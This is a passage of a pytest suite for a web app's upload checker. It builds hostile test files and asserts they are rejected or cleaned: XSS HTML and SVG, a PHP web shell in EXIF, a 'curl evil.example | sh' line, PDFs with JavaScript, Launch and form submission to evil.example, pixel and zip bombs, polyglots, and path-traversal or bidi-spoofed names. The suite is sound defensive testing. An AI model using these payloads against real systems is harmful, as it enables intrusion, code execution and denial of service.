"""Verification and re-encoding of uploads (activities/uploads.py). No database: every
input is built in memory, and the browser's name and content type are never trusted."""

import functools
import hashlib
import io
import random
import struct
import zipfile
import zlib

import pypdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image, ImageCms, ImageDraw, ImageFile
from PIL.PngImagePlugin import PngInfo

from activities import pdfcheck
from activities.uploads import MAX_PIXELS, ProcessedUpload, UploadRejected, display_name, process_upload
from tests.pdfs import CATALOG, JS_ACTION, PAGE, PAGES, build_pdf, one_page

MB = 1024 * 1024
LIMIT = 10 * MB

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"<script>alert(1)</script>"
PHP = b"<?php system($_GET['c']); ?>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
NOT_ACCEPTED = "This kind of file is not accepted"
DAMAGED_PHOTO = "This photo could not be read"
ACTIVE_PDF = "This PDF contains active content"
UNCHECKED_PDF = "This PDF could not be checked"
TOO_LARGE = "Image is too large"


@pytest.fixture(autouse=True)
def _english():
    # The assertions read the English messages, whatever the translators add.
    with translation.override("en"):
        yield


def upload(data, name="upload.jpg", *, max_bytes=LIMIT):
    # The browser's content type is a lie on purpose: it must not matter.
    return process_upload(SimpleUploadedFile(name, data, content_type="image/jpeg"), max_bytes=max_bytes)


# Builders


def jpeg(size=(64, 48), color=(200, 80, 40), **save):
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "JPEG", **save)
    return out.getvalue()


def noisy(size, fmt, **save):
    """Noise does not compress: half of the file is half of the pixels."""
    out = io.BytesIO()
    Image.merge("RGB", [Image.effect_noise(size, 60) for _ in range(3)]).save(out, fmt, **save)
    return out.getvalue()


def half(data):
    return data[: len(data) // 2]


def encoded(image, fmt, **save):
    out = io.BytesIO()
    image.save(out, fmt, **save)
    return out.getvalue()


def _chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


@functools.cache
def png_bomb(width, height):
    """A genuine 1-bit PNG of width x height white pixels: tiny on disk, huge in memory."""
    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    idat = b"".join(compressor.compress(row * 500) for _ in range(height // 500))
    idat += compressor.compress(row * (height % 500)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def jpeg_claiming(width, height):
    """A small JPEG whose frame header claims another size."""
    data = bytearray(jpeg((16, 16)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def zipped(entries, *, mimetype=None):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if mimetype:
            archive.writestr(zipfile.ZipInfo("mimetype"), mimetype)  # stored, first, as ODF wants
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def ooxml(main_part, **extra):
    return zipped(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"/>',
            "_rels/.rels": "<Relationships/>",
            main_part: "<document/>",
            **extra,
        }
    )


def odf(mimetype):
    return zipped(
        {"content.xml": "<office:document-content/>", "META-INF/manifest.xml": "<manifest/>"}, mimetype=mimetype
    )


def ooxml_claiming_huge():
    """A docx whose central directory says word/document.xml unpacks to 4 GB."""
    data = bytearray(ooxml("word/document.xml"))
    central = data.rindex(b"PK\x01\x02")  # the last entry: word/document.xml
    data[central + 24 : central + 28] = struct.pack("<I", 0xFFFFFFF0)
    return bytes(data)


def ooxml_with_many_parts(n):
    return ooxml("word/document.xml", **{f"word/media/image{i}.xml": "" for i in range(n)})


MINIMAL_PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def jpeg_with_php_exif():
    exif = Image.Exif()
    exif[0x010E] = PHP.decode()  # ImageDescription
    exif.get_ifd(0x8769)[0x9286] = b"ASCII\x00\x00\x00" + PHP  # UserComment
    data = jpeg(exif=exif)
    assert PHP in data
    return data


def png_with_text_chunk():
    info = PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    return encoded(Image.new("RGB", (40, 30), "navy"), "PNG", pnginfo=info)


def png_with_bad_crc():
    data = bytearray(noisy((64, 64), "PNG"))
    data[data.index(b"IDAT") + 40] ^= 0xFF
    return bytes(data)


def gif():
    return encoded(Image.new("P", (20, 20)), "GIF")


def jpeg_segments(data):
    """The marker bytes of a JPEG's header segments, up to the start of scan."""
    markers, pos = [], 2
    while pos < len(data):
        assert data[pos] == 0xFF
        marker = data[pos + 1]
        markers.append(marker)
        if marker == 0xDA:  # start of scan: entropy-coded data follows
            return markers
        pos += 2 + struct.unpack(">H", data[pos + 2 : pos + 4])[0]
    raise AssertionError("no start of scan")


def assert_clean_jpeg(result, *payloads):
    """Stored bytes and thumbnail are plain JPEGs: no APPn but JFIF, no comment, no payload."""
    assert isinstance(result, ProcessedUpload)
    assert (result.kind, result.extension, result.content_type) == ("photo", ".jpg", "image/jpeg")
    for data in (result.content, result.thumbnail):
        assert data.startswith(b"\xff\xd8\xff")
        header = jpeg_segments(data)
        assert not set(header) & ({0xFE} | set(range(0xE1, 0xF0))), [hex(m) for m in header]
        image = Image.open(io.BytesIO(data))
        image.load()
        assert image.format == "JPEG"
        assert not image.getexif()
        assert not {"exif", "icc_profile", "comment", "xmp"} & set(image.info)
        for payload in payloads:
            assert payload not in data
    assert result.content.endswith(b"\xff\xd9")
    assert (result.width, result.height) == Image.open(io.BytesIO(result.content)).size


# PDFs with active content, each one a real document in which a PDF reader finds it
# (test_active_pdfs_are_what_they_claim reads them with pypdf).


def hidden_in_stream():
    """The cross-reference points into another object's stream data."""
    hidden = b" 5 0 obj\n" + JS_ACTION + b"\nendobj\n"
    stream = b"<</Length %d>>\nstream\n%s\nendstream" % (len(hidden), hidden)
    return one_page(b"/OpenAction 5 0 R", extra={4: stream}, hidden=[5])


def hidden_in_string():
    return one_page(b"/OpenAction 5 0 R", extra={4: b"<</Title( 5 0 obj " + JS_ACTION + b" endobj)>>"}, hidden=[5])


def hidden_in_comment():
    return one_page(b"/OpenAction 5 0 R", extra={4: b"<<>>\n% 5 0 obj " + JS_ACTION + b" endobj"}, hidden=[5])


def hidden_in_object_stream_string():
    """The table of the object stream points into a string of another packed object."""
    objects = {1: CATALOG % b"/OpenAction 5 0 R", 2: PAGES, 3: PAGE % b"", 4: b"<</T(" + JS_ACTION + b")>>"}
    data = build_pdf({**objects, 5: b"<<>>"}, packed=[1, 4, 5], filters=())
    # Uncompressed, so the table can be rewritten in place: object 5 starts inside 4's string.
    table_start = data.index(b"stream\n", data.index(b"/ObjStm")) + len(b"stream\n")
    table = data[table_start : data.index(b"\n", table_start)]
    numbers = table.split()
    inside = int(numbers[3]) + len(b"<</T(")
    new_table = b" ".join([*numbers[:5], str(inside).encode()]).ljust(len(table))
    return data[:table_start] + new_table + data[table_start + len(table) :]


def packed(catalog, extra, **options):
    return one_page(catalog, extra=extra, packed=[1, *extra], **options)


def with_filter(data, name):
    """Names another filter on the object stream, keeping every offset in place."""
    assert data.count(b"/Filter[/FlateDecode]") == 1
    return data.replace(b"/Filter[/FlateDecode]", b"/Filter[/%s]" % name.ljust(11).encode())


LINK = b"<</Type/Annot/Subtype/Link/Rect[72 700 200 720]/A<</S/URI/URI(https://contoh.sch.id/JS/AA/modul.js)>>>>"


def harmless_pdf():
    """What plain documents hold that looks like active content and is not: an open
    action that only shows page 1, a link whose address has /JS/ in it, page content
    and binary data with names and brackets in them."""
    content = b"BT /AA 12 Tf 72 720 Td (Belajar /JavaScript dan /JS) Tj ET /JS gs"
    binary = bytes(range(256)) * 4 + b"(/JS (%\n stream\n<< /AA >>"
    return one_page(
        b"/OpenAction[3 0 R/Fit]",
        page=b"/Contents 4 0 R/Annots[5 0 R]/Resources<</XObject<</Im0 6 0 R>>>>",
        extra={
            4: b"<</Length %d>>\nstream\n%s\nendstream" % (len(content), content),
            5: LINK,
            6: b"<</Type/XObject/Subtype/Image/Width 32/Height 32/ColorSpace/DeviceGray/BitsPerComponent 8"
            b"/Length %d>>\nstream\n%s\nendstream" % (len(binary), binary),
        },
    )


@functools.cache
def _weasyprint_pdf():
    from weasyprint import HTML

    pages = "".join(f"<h1>Pertemuan {n}</h1><p>Membaca nyaring, lalu diskusi.</p>" for n in range(1, 30))
    html = f'<p><a href="https://contoh.sch.id/JS/">Tautan</a></p>{pages}'
    return HTML(string=html).write_pdf()


def weasyprint_pdf():
    return _weasyprint_pdf()


def pillow_pdf():
    return encoded(Image.new("RGB", (300, 400), "white"), "PDF")


ACTIVE_PDFS = {
    "pdf-open-action-javascript": lambda: one_page(b"/OpenAction 4 0 R", extra={4: JS_ACTION}),
    "pdf-document-javascript": lambda: one_page(
        b"/Names<</JavaScript 4 0 R>>", extra={4: b"<</Names[(init) 5 0 R]>>", 5: JS_ACTION}
    ),
    "pdf-launch": lambda: one_page(b"/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)>>>>"),
    "pdf-embedded-file": lambda: one_page(
        b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>",
        extra={
            4: b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
            5: b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
        },
    ),
    "pdf-rich-media": lambda: one_page(
        page=b"/Annots[4 0 R]", extra={4: b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 100 100]>>"}
    ),
    "pdf-xfa-form": lambda: one_page(
        b"/AcroForm<</Fields[]/XFA 4 0 R>>", extra={4: b"<</Length 0>>\nstream\n\nendstream"}
    ),
    "pdf-page-additional-action": lambda: one_page(page=b"/AA<</O 4 0 R>>", extra={4: JS_ACTION}),
    "pdf-go-to-embedded": lambda: one_page(b"/OpenAction<</S/GoToE/T<</R/C/N(a.pdf)>>>>"),
    "pdf-submit-form": lambda: one_page(b"/OpenAction<</S/SubmitForm/F(https://evil.example/)>>"),
    "pdf-hex-escaped-names": lambda: one_page(
        b"/OpenAction 4 0 R", extra={4: b"<</S/J#61vaScript/#4A#53(app.alert\\(1\\))>>"}
    ),
    "pdf-hex-escaped-additional-action": lambda: one_page(page=b"/#41A<</O 4 0 R>>", extra={4: JS_ACTION}),
    "pdf-javascript-in-object-stream": lambda: packed(b"/OpenAction 4 0 R", {4: JS_ACTION}),
    "pdf-escaped-names-in-object-stream": lambda: packed(
        b"/OpenAction 4 0 R", {4: b"<</S/JavaScr#69pt/J#53(app.alert\\(1\\))>>"}
    ),
    "pdf-object-stream-hex-then-flate": lambda: packed(
        b"/OpenAction 4 0 R", {4: JS_ACTION}, filters=("ASCIIHexDecode", "FlateDecode")
    ),
    "pdf-object-stream-without-type": lambda: packed(b"/OpenAction 4 0 R", {4: JS_ACTION}, objstm_dict=b""),
}

# Active content a reader finds through the cross-reference table, where the file does
# not look like objects: built to be read in two ways, so not accepted.
HIDDEN_PDFS = {
    "pdf-object-hidden-in-stream-data": hidden_in_stream,
    "pdf-object-hidden-in-string": hidden_in_string,
    "pdf-object-hidden-in-comment": hidden_in_comment,
    "pdf-object-hidden-in-string-of-object-stream": hidden_in_object_stream_string,
}

UNCHECKED_PDFS = {
    **HIDDEN_PDFS,
    "pdf-object-stream-unknown-filter": lambda: with_filter(packed(b"", {4: b"<<>>"}), "LZWDecode"),
    # The deflated data of the object stream starts with a broken header.
    "pdf-object-stream-broken": lambda: packed(b"", {4: b"<<>>"}).replace(b"stream\nx", b"stream\nX", 1),
    "pdf-object-stream-inflates-to-100-mb": lambda: packed(b"", {4: b"<<>>"}, pad=100 * MB),
}


# The upload corpus: what people (and attackers) will send. Each case is rejected with a
# message, or neutralised: what is stored is clean and free of the payload.


class Rejected:
    def __init__(self, message):
        self.message = message

    def __repr__(self):
        return f"Rejected({self.message!r})"


def clean_photo(*payloads, name=None):
    def check(result):
        assert_clean_jpeg(result, *payloads)
        if name is not None:
            assert result.original_name == name

    return check


def stored_file(extension, name):
    def check(result):
        assert (result.kind, result.extension, result.original_name) == ("file", extension, name)
        assert result.thumbnail is None

    return check


CORPUS = [
    # Markup and scripts under image or document names.
    pytest.param(lambda: HTML, "foto.jpg", Rejected(NOT_ACCEPTED), id="html-named-jpg"),
    pytest.param(lambda: b"fetch('/akun/').then(r => r.text())", "foto.png", Rejected(NOT_ACCEPTED), id="js-named-png"),
    pytest.param(lambda: SVG, "gambar.svg", Rejected(NOT_ACCEPTED), id="svg-with-script"),
    pytest.param(lambda: SVG, "gambar.jpg", Rejected(NOT_ACCEPTED), id="svg-named-jpg"),
    pytest.param(lambda: HTML, "laporan.pdf", Rejected(NOT_ACCEPTED), id="html-named-pdf"),
    pytest.param(lambda: b"<html>%PDF-1.7" + SCRIPT, "x.pdf", Rejected(NOT_ACCEPTED), id="html-with-pdf-header-inside"),
    pytest.param(lambda: b"#!/bin/sh\ncurl evil.example | sh\n", "rpp.docx", Rejected(NOT_ACCEPTED), id="shell-script"),
    pytest.param(lambda: b"Ini hanya teks biasa.", "rpp.docx", Rejected(NOT_ACCEPTED), id="text-named-docx"),
    # Payloads riding along with real pixels: only the re-encoded pixels are stored.
    pytest.param(
        lambda: encoded(Image.new("RGB", (40, 30)), "PNG") + SCRIPT,
        "a.png",
        clean_photo(SCRIPT),
        id="png-appended-script",
    ),
    pytest.param(lambda: jpeg() + HTML, "a.jpg", clean_photo(HTML, b"<html"), id="jpeg-appended-html"),
    pytest.param(
        lambda: encoded(Image.new("RGB", (40, 30)), "WEBP") + HTML,
        "a.webp",
        clean_photo(b"<html"),
        id="webp-appended-html",
    ),
    pytest.param(jpeg_with_php_exif, "a.jpg", clean_photo(PHP, b"<?php", b"Exif"), id="jpeg-php-in-exif"),
    pytest.param(lambda: jpeg(comment=PHP), "a.jpg", clean_photo(PHP, b"<?php"), id="jpeg-php-in-comment"),
    pytest.param(png_with_text_chunk, "a.png", clean_photo(SCRIPT), id="png-script-in-text-chunk"),
    pytest.param(
        lambda: jpeg() + zipped({"evil.html": HTML}), "a.jpg", clean_photo(b"PK\x03\x04", HTML), id="jpeg-zip-polyglot"
    ),
    # Pixel bombs: refused from the header, before any decoding.
    pytest.param(lambda: png_bomb(20_000, 20_000), "a.png", Rejected(TOO_LARGE), id="png-20000x20000"),
    pytest.param(lambda: png_bomb(10_000, 10_000), "a.png", Rejected(TOO_LARGE), id="png-10000x10000-pillow-warns"),
    pytest.param(lambda: png_bomb(9_000, 9_000), "a.png", Rejected(TOO_LARGE), id="png-9000x9000"),
    pytest.param(lambda: jpeg_claiming(60_000, 60_000), "a.jpg", Rejected(TOO_LARGE), id="jpeg-header-60000x60000"),
    pytest.param(lambda: jpeg_claiming(8_000, 6_000), "a.jpg", Rejected(TOO_LARGE), id="jpeg-header-8000x6000"),
    # Broken images.
    pytest.param(lambda: half(noisy((256, 256), "JPEG")), "a.jpg", Rejected(DAMAGED_PHOTO), id="truncated-jpeg"),
    pytest.param(lambda: half(noisy((128, 128), "PNG")), "a.png", Rejected(DAMAGED_PHOTO), id="truncated-png"),
    pytest.param(png_with_bad_crc, "a.png", Rejected(DAMAGED_PHOTO), id="png-bad-crc"),
    pytest.param(
        lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 200, "a.jpg", Rejected(DAMAGED_PHOTO), id="jpeg-signature-only"
    ),
    # Image formats that are not accepted.
    pytest.param(gif, "a.gif", Rejected(NOT_ACCEPTED), id="gif"),
    pytest.param(lambda: encoded(Image.new("RGB", (20, 20)), "BMP"), "a.bmp", Rejected(NOT_ACCEPTED), id="bmp"),
    pytest.param(lambda: encoded(Image.new("RGB", (20, 20)), "TIFF"), "a.tif", Rejected(NOT_ACCEPTED), id="tiff"),
    pytest.param(lambda: encoded(Image.new("RGB", (32, 32)), "ICO"), "favicon.ico", Rejected(NOT_ACCEPTED), id="ico"),
    pytest.param(lambda: gif() + ooxml("word/document.xml"), "a.docx", Rejected(NOT_ACCEPTED), id="gifar-polyglot"),
    # Size.
    pytest.param(lambda: b"", "kosong.pdf", Rejected("The file is empty."), id="zero-bytes"),
    pytest.param(lambda: MINIMAL_PDF.ljust(2048, b" "), "besar.pdf", Rejected("larger than"), id="over-the-limit"),
    # Executables and archives.
    pytest.param(
        lambda: b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode",
        "rpp.pdf",
        Rejected(NOT_ACCEPTED),
        id="exe",
    ),
    pytest.param(lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "a.doc", Rejected(NOT_ACCEPTED), id="elf"),
    pytest.param(lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100, "a.rar", Rejected(NOT_ACCEPTED), id="rar"),
    pytest.param(
        lambda: zipped({"readme.txt": "hi", "run.exe": "MZ"}),
        "a.docx",
        Rejected("ZIP archives are not accepted."),
        id="plain-zip",
    ),
    pytest.param(
        lambda: zipped({"[Content_Types].xml": "<Types/>"}),
        "a.docx",
        Rejected("ZIP archives"),
        id="ooxml-without-main-part",
    ),
    pytest.param(lambda: odf("application/x-evil"), "a.odt", Rejected("ZIP archives"), id="odf-unknown-mimetype"),
    pytest.param(lambda: ooxml_with_many_parts(3000), "a.docx", Rejected("too many parts"), id="ooxml-3000-entries"),
    pytest.param(ooxml_claiming_huge, "a.docx", Rejected("too large when unpacked"), id="ooxml-claims-4gb"),
    pytest.param(
        lambda: ooxml("word/document.xml", **{"word/vbaProject.bin": b"\x00"}),
        "a.docx",
        Rejected("macros"),
        id="docm-with-macros",
    ),
    pytest.param(lambda: b"PK\x03\x04" + b"\x00" * 200, "a.docx", Rejected("could not be read"), id="broken-zip"),
    # PDFs with active content: scripts, launched programs, embedded files, automatic actions.
    *[pytest.param(make, "materi.pdf", Rejected(ACTIVE_PDF), id=case) for case, make in ACTIVE_PDFS.items()],
    # PDFs that cannot be checked within the limits, or only by guessing.
    *[pytest.param(make, "materi.pdf", Rejected(UNCHECKED_PDF), id=case) for case, make in UNCHECKED_PDFS.items()],
    # Names: accepted, but what is shown and offered for download is a plain, honest name.
    pytest.param(lambda: jpeg(), "../../etc/passwd.jpg", clean_photo(name="passwd.jpg"), id="path-traversal-name"),
    pytest.param(
        lambda: MINIMAL_PDF, "..\\..\\windows\\evil.pdf", stored_file(".pdf", "evil.pdf"), id="backslash-traversal-name"
    ),
    pytest.param(lambda: jpeg(), "shell.php\x00.jpg", clean_photo(name="shell.php.jpg"), id="null-byte-name"),
    pytest.param(
        lambda: MINIMAL_PDF, "tugas\u202efdp.exe", stored_file(".pdf", "tugasfdp.pdf"), id="bidi-override-name"
    ),
    pytest.param(lambda: MINIMAL_PDF, "a" * 200 + ".pdf", stored_file(".pdf", "a" * 116 + ".pdf"), id="200-char-name"),
    pytest.param(lambda: OLE2, "setup.exe", stored_file(".doc", "setup.doc"), id="ole-named-exe-stored-as-doc"),
    pytest.param(lambda: jpeg(), "foto.png", clean_photo(name="foto.jpg"), id="jpeg-named-png"),
]


@pytest.mark.parametrize(("make", "name", "expected"), CORPUS)
def test_upload_corpus(make, name, expected):
    max_bytes = 1024 if name == "besar.pdf" else LIMIT
    if isinstance(expected, Rejected):
        with pytest.raises(UploadRejected, match=expected.message):
            upload(make(), name, max_bytes=max_bytes)
    else:
        expected(upload(make(), name, max_bytes=max_bytes))


def test_corpus_is_large_enough():
    assert len(CORPUS) >= 24


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(lambda: png_bomb(20_000, 20_000), id="png-20000"),
        pytest.param(lambda: png_bomb(9_000, 9_000), id="png-9000"),
        pytest.param(lambda: jpeg_claiming(60_000, 60_000), id="jpeg-60000"),
    ],
)
def test_pixel_cap_is_checked_before_decoding(data, monkeypatch):
    def no_decoding(self):
        raise AssertionError("decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", no_decoding)
    # Had anything been decoded, the message would be the "damaged" one.
    with pytest.raises(UploadRejected, match=TOO_LARGE):
        upload(data())


def test_bomb_png_is_small_on_disk():
    assert len(png_bomb(20_000, 20_000)) < 100_000
    assert MAX_PIXELS < 9_000 * 9_000


class CountingFile(io.BytesIO):
    def __init__(self, data):
        super().__init__(data)
        self.reads = []

    def read(self, size=-1):
        self.reads.append(size)
        return super().read(size)


def test_the_declared_size_is_checked_before_reading():
    uploaded = SimpleUploadedFile("a.pdf", b"")
    uploaded.file, uploaded.size = CountingFile(MINIMAL_PDF), 50 * MB
    with pytest.raises(UploadRejected, match="larger than 10 MB"):
        process_upload(uploaded, max_bytes=LIMIT)
    assert uploaded.file.reads == []


def test_a_lying_size_does_not_make_it_read_everything():
    uploaded = SimpleUploadedFile("a.pdf", b"")
    uploaded.file, uploaded.size = CountingFile(MINIMAL_PDF.ljust(5000, b" ")), 10
    with pytest.raises(UploadRejected, match="larger than"):
        process_upload(uploaded, max_bytes=1024)
    assert uploaded.file.reads == [1025]


def test_truncated_images_are_refused_even_when_a_library_allows_them(monkeypatch):
    # WeasyPrint sets this global to True on import; uploads must stay strict anyway.
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    data = jpeg()
    with pytest.raises(UploadRejected):
        upload(data[: len(data) // 2])
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True


# Photos that should go through


def gps_photo(size=(400, 200)):
    exif = Image.Exif()
    exif[0x010F] = "Xiaomi"  # Make
    exif[0x0110] = "Redmi 9A"  # Model
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to view
    exif[0x8825] = {1: "S", 2: (7.0, 46.0, 0.0), 3: "E", 4: (110.0, 21.0, 0.0)}
    image = Image.new("RGB", size, "white")
    ImageDraw.Draw(image).rectangle((0, 0, size[0] // 2, size[1]), fill="red")  # left half red
    data = encoded(image, "JPEG", exif=exif)
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(0x8825)[2] == (7.0, 46.0, 0.0)
    return data


def test_photo_loses_every_exif_field_and_the_location():
    source = gps_photo()
    result = upload(source, "kelas.jpg")
    assert_clean_jpeg(result, b"Exif", b"Xiaomi", b"Redmi")
    gps_ifd_in_source = source[source.index(b"Exif") :][:300]
    assert b"\x00\x00\x00\x07\x00\x00\x00\x01" in gps_ifd_in_source  # 7/1 degrees, as a rational
    assert b"\x00\x00\x00\x07\x00\x00\x00\x01" not in result.content[:1000]
    assert Image.open(io.BytesIO(result.content)).getexif() == {}


@pytest.mark.parametrize(
    ("size", "stored"),
    [
        ((400, 200), (200, 400)),
        ((3400, 1700), (800, 1600)),  # decoded at reduced scale, then turned
    ],
)
def test_photo_orientation_is_applied(size, stored):
    result = upload(gps_photo(size))
    assert (result.width, result.height) == stored
    image = Image.open(io.BytesIO(result.content)).convert("RGB")
    width, height = stored
    # Turned clockwise, the red left half is now on top.
    top, bottom = image.getpixel((width // 2, height // 4)), image.getpixel((width // 2, height * 3 // 4))
    assert top[0] > 200 and top[1] < 60
    assert bottom > (230, 230, 230)
    thumbnail = Image.open(io.BytesIO(result.thumbnail)).size
    assert thumbnail == (200, 400)


def camera_photo(width=4000, height=3000):
    """A phone-camera-like photo: gradients, shapes with edges, sensor noise."""
    rnd = random.Random(2025)
    horizontal = Image.linear_gradient("L").rotate(90).resize((width, height))
    vertical = Image.linear_gradient("L").resize((width, height))
    radial = Image.radial_gradient("L").resize((width, height))
    scene = Image.merge("RGB", (horizontal, vertical, radial))
    draw = ImageDraw.Draw(scene)
    for _ in range(300):
        x, y, size = rnd.randrange(width), rnd.randrange(height), rnd.randrange(20, 400)
        colour = tuple(rnd.randrange(256) for _ in range(3))
        box = (x, y, x + size, y + int(size * rnd.uniform(0.3, 1.5)))
        (draw.ellipse if rnd.random() < 0.5 else draw.rectangle)(box, fill=colour, outline="black", width=3)
    noise = Image.effect_noise((width, height), 40)
    grain = Image.merge("RGB", (noise, noise.transpose(Image.Transpose.ROTATE_180), noise))
    return encoded(Image.blend(scene, grain, 0.25), "JPEG", quality=92)


@functools.cache
def measure():
    """Numbers for the 4000 x 3000 camera photo, as stored."""
    source = camera_photo()
    result = upload(source, "IMG_20250114_093012.jpg", max_bytes=20 * MB)
    thumbnail = Image.open(io.BytesIO(result.thumbnail))
    numbers = {
        "source_bytes": len(source),
        "stored_bytes": len(result.content),
        "width": result.width,
        "height": result.height,
        "thumbnail_bytes": len(result.thumbnail),
        "thumbnail_size": thumbnail.size,
    }
    print("\n4000x3000 camera photo:", numbers)
    return numbers


def test_camera_photo_is_small_enough_for_cheap_phones():
    numbers = measure()
    assert numbers["source_bytes"] > 2 * MB  # the source is a realistic, hard-to-compress photo
    assert (numbers["width"], numbers["height"]) == (1600, 1200)
    assert numbers["stored_bytes"] <= 400_000
    assert numbers["thumbnail_bytes"] <= 40_000
    assert numbers["thumbnail_size"] == (400, 300)


def test_pure_noise_is_squeezed_under_the_target():
    # Noise is the worst case for JPEG: lower qualities first, then fewer pixels.
    result = upload(noisy((1600, 1200), "PNG"), "noise.png", max_bytes=20 * MB)
    assert len(result.content) <= 400_000
    assert len(result.thumbnail) <= 40_000
    assert result.width < 1600 and result.width / result.height == pytest.approx(4 / 3, abs=0.01)


def test_transparent_png_is_flattened_on_white():
    image = Image.new("RGBA", (100, 100), (0, 0, 0, 0))
    ImageDraw.Draw(image).rectangle((50, 0, 99, 99), fill=(0, 0, 255, 255))
    result = upload(encoded(image, "PNG"), "logo.png")
    assert_clean_jpeg(result)
    flat = Image.open(io.BytesIO(result.content))
    assert flat.mode == "RGB"
    assert flat.getpixel((10, 50)) > (245, 245, 245)
    assert flat.getpixel((90, 50))[2] > 200 and flat.getpixel((90, 50))[0] < 40


def test_palette_png_with_transparency_is_flattened_on_white():
    image = Image.new("P", (60, 60), 0)
    image.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
    ImageDraw.Draw(image).rectangle((30, 0, 59, 59), fill=1)
    result = upload(encoded(image, "PNG", transparency=0), "ikon.png")
    flat = Image.open(io.BytesIO(result.content))
    assert flat.getpixel((5, 30)) > (245, 245, 245)
    assert flat.getpixel((50, 30))[0] > 200


def test_sixteen_bit_greyscale_png_keeps_its_tones():
    image = Image.new("I;16", (40, 40), 32768)  # mid grey in 16 bits
    result = upload(encoded(image, "PNG"), "scan.png")
    assert 110 < Image.open(io.BytesIO(result.content)).convert("L").getpixel((20, 20)) < 145


def test_webp_is_accepted():
    result = upload(encoded(Image.new("RGB", (300, 200), "green"), "WEBP"), "foto.webp")
    assert_clean_jpeg(result)
    assert (result.width, result.height, result.original_name) == (300, 200, "foto.jpg")


def test_multi_picture_jpeg_from_phones_is_accepted():
    first, second = Image.new("RGB", (320, 240), "orange"), Image.new("RGB", (160, 120), "blue")
    mpo = encoded(first, "MPO", save_all=True, append_images=[second])
    assert Image.open(io.BytesIO(mpo)).format == "MPO"
    result = upload(mpo, "DSC0001.JPG")
    assert_clean_jpeg(result)
    assert (result.width, result.height, result.original_name) == (320, 240, "DSC0001.JPG")


def test_colour_profile_is_applied_then_dropped():
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    result = upload(encoded(Image.new("RGB", (50, 50), (10, 120, 200)), "JPEG", icc_profile=srgb))
    assert_clean_jpeg(result)
    assert Image.open(io.BytesIO(result.content)).getpixel((25, 25)) == pytest.approx((10, 120, 200), abs=6)


def test_photo_result_is_self_consistent():
    result = upload(jpeg((300, 200)), "kecil.jpeg")
    assert (result.width, result.height) == (300, 200)  # never enlarged
    assert Image.open(io.BytesIO(result.thumbnail)).size == (300, 200)
    assert result.original_name == "kecil.jpeg"
    assert result.sha256 == hashlib.sha256(result.content).hexdigest()


# Documents that should go through, byte for byte


@pytest.mark.parametrize(
    ("make", "name", "extension", "content_type"),
    [
        pytest.param(lambda: MINIMAL_PDF, "rpp.pdf", ".pdf", "application/pdf", id="pdf"),
        pytest.param(lambda: ooxml("word/document.xml"), "rpp.docx", ".docx", DOCX, id="docx"),
        pytest.param(lambda: ooxml("xl/workbook.xml"), "nilai.xlsx", ".xlsx", XLSX, id="xlsx"),
        pytest.param(lambda: ooxml("ppt/presentation.xml"), "materi.pptx", ".pptx", PPTX, id="pptx"),
        pytest.param(
            lambda: odf("application/vnd.oasis.opendocument.text"),
            "rpp.odt",
            ".odt",
            "application/vnd.oasis.opendocument.text",
            id="odt",
        ),
        pytest.param(
            lambda: odf("application/vnd.oasis.opendocument.spreadsheet"),
            "nilai.ods",
            ".ods",
            "application/vnd.oasis.opendocument.spreadsheet",
            id="ods",
        ),
        pytest.param(
            lambda: odf("application/vnd.oasis.opendocument.presentation"),
            "materi.odp",
            ".odp",
            "application/vnd.oasis.opendocument.presentation",
            id="odp",
        ),
        pytest.param(lambda: OLE2, "rpp.doc", ".doc", "application/msword", id="doc"),
        pytest.param(lambda: OLE2, "nilai.XLS", ".xls", "application/vnd.ms-excel", id="xls"),
        pytest.param(lambda: OLE2, "materi.ppt", ".ppt", "application/vnd.ms-powerpoint", id="ppt"),
